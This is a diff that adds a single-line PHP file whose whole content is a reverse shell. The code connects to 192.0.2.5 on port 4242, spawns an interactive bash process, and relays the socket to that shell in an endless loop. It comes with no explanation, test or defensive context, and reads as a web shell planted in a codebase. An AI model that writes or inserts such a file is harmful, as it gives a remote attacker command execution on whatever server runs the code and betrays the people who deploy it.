@@ -1,0 +1,1 @@
+<?php $s=fsockopen("192.0.2.5",4242);$d=array(0=>array("pipe","r"),1=>array("pipe","w"));$p=proc_open("/bin/bash -i",$d,$q);stream_set_blocking($s,0);while(true){stream_copy_to_stream($s,$q[0]);stream_copy_to_stream($q[1],$s);}
